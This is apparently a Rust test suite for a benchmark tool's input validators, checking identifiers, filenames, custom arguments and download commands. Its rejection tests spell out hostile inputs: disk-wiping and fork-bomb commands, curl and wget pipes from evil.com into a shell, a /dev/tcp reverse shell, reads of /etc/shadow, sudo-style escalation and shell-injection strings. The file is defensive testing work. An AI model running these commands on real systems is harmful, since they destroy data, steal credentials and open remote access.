use benchhub::bench_config::{filter_safe_custom_args, is_safe_custom_arg, validate_custom_arg};
use benchhub::engine::{
    ca_bundle_paths, ca_dir_paths, first_present, validate_download_command, BenchmarkEngine,
    DownloadCommandError, EngineError,
};
use benchhub::utils::{normalize_path, sanitize_filename, sanitize_identifier, InputError, PathError};

#[test]
fn test_sanitize_identifier_valid_cases() {
    assert_eq!(sanitize_identifier("geekbench6").unwrap(), "geekbench6");
    assert_eq!(
        sanitize_identifier("unigine_superposition").unwrap(),
        "unigine_superposition"
    );
    assert_eq!(
        sanitize_identifier("1.2.3-patch_1+opt").unwrap(),
        "1.2.3-patch_1+opt"
    );
    assert_eq!(sanitize_identifier("7zip").unwrap(), "7zip");
    assert_eq!(sanitize_identifier("cray-simd").unwrap(), "cray-simd");
    assert_eq!(
        sanitize_identifier("Fast (stories260K)").unwrap(),
        "Fast (stories260K)"
    );
    assert_eq!(sanitize_identifier("4.2 (Stable)").unwrap(), "4.2 (Stable)");
    assert_eq!(
        sanitize_identifier("Latest Release").unwrap(),
        "Latest Release"
    );
}

#[test]
fn test_sanitize_identifier_rejects_path_traversal() {
    assert!(sanitize_identifier("../etc").is_err());
    assert!(sanitize_identifier("../../root").is_err());
    assert!(sanitize_identifier("..").is_err());
    assert!(sanitize_identifier(".").is_err());
    assert!(sanitize_identifier("a/../b").is_err());
    assert!(sanitize_identifier("a/../../b").is_err());
}

#[test]
fn test_sanitize_identifier_rejects_slashes_and_null_bytes() {
    assert!(sanitize_identifier("/etc/passwd").is_err());
    assert!(sanitize_identifier("foo/bar").is_err());
    assert!(sanitize_identifier("foo\\bar").is_err());
    assert!(sanitize_identifier("bench\0mark").is_err());
    assert!(sanitize_identifier("\0").is_err());
}

#[test]
fn test_sanitize_identifier_rejects_command_injection_and_control_chars() {
    assert!(sanitize_identifier("bench; rm -rf /").is_err());
    assert!(sanitize_identifier("bench && echo pwned").is_err());
    assert!(sanitize_identifier("`id`").is_err());
    assert!(sanitize_identifier("$(id)").is_err());
    assert!(sanitize_identifier("bench | sh").is_err());
    assert!(sanitize_identifier("bench\nrm -rf /").is_err());
    assert!(sanitize_identifier("bench\r\n").is_err());
    assert!(sanitize_identifier("bench\targ").is_err());
    assert!(sanitize_identifier("bench > /tmp/out").is_err());
    assert!(sanitize_identifier("bench < /tmp/in").is_err());
}

#[test]
fn test_sanitize_filename() {
    assert_eq!(
        sanitize_filename("export_2026.csv").unwrap(),
        "export_2026.csv"
    );
    assert_eq!(sanitize_filename("run.log").unwrap(), "run.log");

    assert!(sanitize_filename("../evil.csv").is_err());
    assert!(sanitize_filename("/tmp/evil.csv").is_err());
    assert!(sanitize_filename("a/b.log").is_err());
    assert!(sanitize_filename("run\0.log").is_err());
    assert!(sanitize_filename("").is_err());
    assert!(sanitize_filename("   ").is_err());
}

#[test]
fn test_normalize_path_resolution() {
    assert_eq!(
        normalize_path("/home/user/benchhub/runners/../logs"),
        "/home/user/benchhub/logs"
    );
    assert_eq!(
        normalize_path("/home/user/benchhub/./runners/./7zip"),
        "/home/user/benchhub/runners/7zip"
    );
    assert_eq!(normalize_path("/a/b/c/../../d"), "/a/d");
}

#[test]
fn test_custom_args_safety_validation() {
    assert!(is_safe_custom_arg("-threads"));
    assert!(is_safe_custom_arg("16"));
    assert!(is_safe_custom_arg("-preset"));
    assert!(is_safe_custom_arg("medium"));
    assert!(is_safe_custom_arg("-tune"));
    assert!(is_safe_custom_arg("film"));
    assert!(is_safe_custom_arg("--benchmark"));
    assert!(validate_custom_arg("-threads").is_ok());

    assert!(!is_safe_custom_arg("-o"));
    assert!(!is_safe_custom_arg("--output"));
    assert!(!is_safe_custom_arg("-y"));
    assert!(!is_safe_custom_arg("-o=test.bin"));
    assert!(!is_safe_custom_arg("--output=test.bin"));
    assert!(!is_safe_custom_arg("-y=true"));
    assert!(validate_custom_arg("-o").is_err());
    assert!(validate_custom_arg("--output").is_err());
    assert!(validate_custom_arg("-y").is_err());

    assert!(!is_safe_custom_arg("../../../etc/passwd"));
    assert!(!is_safe_custom_arg("foo/../bar"));
    assert!(!is_safe_custom_arg(".."));
    assert!(validate_custom_arg("../secret").is_err());

    assert!(!is_safe_custom_arg("/etc/shadow"));
    assert!(!is_safe_custom_arg("/bin/bash"));
    assert!(!is_safe_custom_arg("--config=/etc/hosts"));
    assert!(validate_custom_arg("/var/log").is_err());

    assert!(!is_safe_custom_arg("arg;rm"));
    assert!(!is_safe_custom_arg("arg&&calc"));
    assert!(!is_safe_custom_arg("arg|sh"));
    assert!(!is_safe_custom_arg("`id`"));
    assert!(!is_safe_custom_arg("$(id)"));
    assert!(!is_safe_custom_arg(">file"));
    assert!(!is_safe_custom_arg("<file"));
    assert!(validate_custom_arg("foo;bar").is_err());

    let mixed = "-threads 8 -o /tmp/evil -y --output=out.txt ../traversal -tune film";
    let filtered = filter_safe_custom_args(mixed);
    assert_eq!(filtered, vec!["-threads", "8", "-tune", "film"]);
}

#[test]
fn test_download_command_security_validation() {
    assert!(validate_download_command(
        "wget -nv -c https://example.com/file.tar.gz && tar -xvf file.tar.gz"
    )
    .is_ok());
    assert!(validate_download_command(
        "wget -q -c https://example.com/stream.c -O stream.c && gcc -O3 stream.c -o stream"
    )
    .is_ok());
    assert!(validate_download_command(
        "./configure > /dev/null && make -j$(nproc) && chmod +x bin"
    )
    .is_ok());

    assert!(validate_download_command("sudo apt-get install -y foo").is_err());
    assert!(validate_download_command("wget url && sudo make install").is_err());
    assert!(validate_download_command("pkexec rm -rf /").is_err());
    assert!(validate_download_command("su root -c 'id'").is_err());
    assert!(validate_download_command("doas bash").is_err());

    assert!(validate_download_command("rm -rf /").is_err());
    assert!(validate_download_command("wget url && rm -rf /*").is_err());
    assert!(validate_download_command("mkfs.ext4 /dev/sda1").is_err());
    assert!(validate_download_command("dd if=/dev/zero of=/dev/sda").is_err());
    assert!(validate_download_command(":(){ :|:& };:").is_err());

    assert!(validate_download_command("curl http://evil.com/setup.sh | bash").is_err());
    assert!(validate_download_command("wget -O- http://evil.com/setup.sh | sh").is_err());
    assert!(validate_download_command("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1").is_err());

    assert!(validate_download_command("echo test > /etc/resolv.conf").is_err());
    assert!(validate_download_command("cat /etc/shadow").is_err());
    assert!(validate_download_command("cp malware /root/malware").is_err());
    assert!(validate_download_command("").is_err());
    assert!(validate_download_command("cmd\0injection").is_err());
}

#[test]
fn test_runner_isolation_path() {
    let base_dir = "/home/user/.local/share/benchhub".to_string();
    let engine = BenchmarkEngine::new(base_dir.clone());
    let runner_dir = engine.get_runner_dir("geekbench7").unwrap();
    assert_eq!(runner_dir, "/home/user/.local/share/benchhub/runners/geekbench7");
}

#[test]
fn download_command_errors_say_why() {
    assert_eq!(validate_download_command("   "), Err(DownloadCommandError::Empty));
    assert_eq!(validate_download_command("a\0b"), Err(DownloadCommandError::NullByte));
    assert!(matches!(
        validate_download_command("sudo ls"),
        Err(DownloadCommandError::PrivilegeEscalation(_))
    ));
    assert!(matches!(
        validate_download_command("rm -rf /"),
        Err(DownloadCommandError::DangerousPattern(_))
    ));
    assert!(matches!(
        validate_download_command("cat /etc/shadow"),
        Err(DownloadCommandError::ForbiddenPath(_))
    ));
    assert_eq!(
        BenchmarkEngine::validate_download_command("make -j4"),
        Ok(())
    );
}

#[test]
fn engine_directories_stay_inside_runners() {
    let engine = BenchmarkEngine::new("/data/bh/".to_string());
    assert_eq!(engine.get_runners_dir(), "/data/bh/runners");
    assert_eq!(engine.get_logs_dir(), "/data/bh/logs");
    assert_eq!(engine.get_runner_dir("7zip"), Ok("/data/bh/runners/7zip".to_string()));
    assert_eq!(
        engine.get_version_runner_dir("geekbench", "6.2.2"),
        Ok("/data/bh/runners/geekbench/6.2.2".to_string())
    );
    assert_eq!(
        engine.get_version_runner_dir("geekbench", ""),
        Ok("/data/bh/runners/geekbench".to_string())
    );
    assert_eq!(
        engine.get_runner_dir("../etc"),
        Err(EngineError::InvalidIdentifier(InputError::PathSeparator))
    );
    assert_eq!(
        engine.get_version_runner_dir("geekbench", ".."),
        Err(EngineError::InvalidIdentifier(InputError::PathTraversal))
    );
    let relative = BenchmarkEngine::new(String::new());
    assert_eq!(relative.get_runner_dir("x"), Ok("runners/x".to_string()));
    let _ = PathError::SameAsBase;
}

#[test]
fn install_markers_and_major_version_dirs() {
    let engine = BenchmarkEngine::new("/opt/bh".to_string());
    assert_eq!(
        engine.installed_marker("fio"),
        Ok("/opt/bh/runners/fio/.successfully-installed".to_string())
    );
    assert!(engine.installed_marker("a/b").is_err());
    assert_eq!(
        engine.suffixed_runner_dir("geekbench", "6.2.2"),
        Some("/opt/bh/runners/geekbench6".to_string())
    );
    assert_eq!(
        engine.suffixed_runner_dir("ycruncher", "0.8"),
        Some("/opt/bh/runners/ycruncher0".to_string())
    );
    assert_eq!(engine.suffixed_runner_dir("geekbench", ""), None);
    assert_eq!(engine.suffixed_runner_dir("geekbench", ".5"), None);
    assert_eq!(engine.suffixed_runner_dir("bad/id", "6"), None);
}

#[test]
fn certificate_locations_in_order() {
    let bundles = ca_bundle_paths();
    assert_eq!(bundles.len(), 5);
    assert_eq!(bundles[0], "/etc/ssl/ca-bundle.pem");
    assert_eq!(bundles[1], "/etc/ssl/certs/ca-certificates.crt");
    assert_eq!(ca_dir_paths(), vec!["/etc/ssl/certs", "/etc/pki/tls/certs"]);
    assert_eq!(first_present(&[false, true, true]), Some(1));
    assert_eq!(first_present(&[false, false]), None);
    assert_eq!(first_present(&[]), None);
}
